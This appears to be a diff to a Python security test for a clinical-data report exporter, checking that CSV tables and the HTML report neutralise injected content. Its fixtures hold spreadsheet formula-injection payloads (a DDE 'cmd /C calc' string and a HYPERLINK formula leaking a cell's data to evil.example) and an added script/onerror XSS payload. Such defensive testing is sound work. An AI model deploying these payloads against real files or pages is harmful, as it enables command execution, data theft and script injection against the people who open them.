@@ -22,6 +22,7 @@ from graftline.export import csv_text, neutralise_cell, neutralise_formulas, wri
 
 HOSTILE_ID = "-2+3+cmd|' /C calc'!A0"
 HOSTILE_ARM = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
+HTML_ARM = "<script>alert(1)</script><img src=x onerror=alert(2)>"
 HOSTILE_STUDY = "@SUM(1+1)*cmd|' /C calc'!A0"
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
@@ -174,7 +175,7 @@ def test_report_tables_are_inert(graftline, tmp_path):
     # A small endpoint table keeps the report quick; its tables carry arms and, with --include-ids, ids.
     endpoints = pd.DataFrame({
         "patient_id": [HOSTILE_ID, "P2", "P3", "P4", "P5", "P6"],
-        "arm": [HOSTILE_ARM, HOSTILE_ARM, HOSTILE_ARM, "chemo", "chemo", "chemo"],
+        "arm": [HOSTILE_ARM, HOSTILE_ARM, HOSTILE_ARM, HTML_ARM, HTML_ARM, HTML_ARM],
         "os_day": [100, 200, 300, 150, 250, 350], "os_status": [1, 0, 1, 1, 1, 0],
     })
     endpoints.to_csv(tmp_path / "endpoints.csv", index=False)
@@ -187,6 +188,10 @@ def test_report_tables_are_inert(graftline, tmp_path):
         assert formula_cells(table.read_text()) == [], table.name
     assert_inert((tmp_path / "report" / "tables" / "patient_endpoints.csv").read_text(), HOSTILE_ID, HOSTILE_ARM)
     assert_inert((tmp_path / "report" / "tables" / "medians.csv").read_text(), HOSTILE_ARM)
+    # The page shows the arm as text: no element or script from the data.
+    page = (tmp_path / "report" / "index.html").read_text()
+    assert "&lt;script&gt;alert(1)" in page and "<script" not in page.lower()
+    assert re.findall(r"<img(?! src=\"data:image/)", page, flags=re.IGNORECASE) == []  # only the figures
 
 
 def test_endpoints_as_xlsx_hold_no_formula(tmp_path):
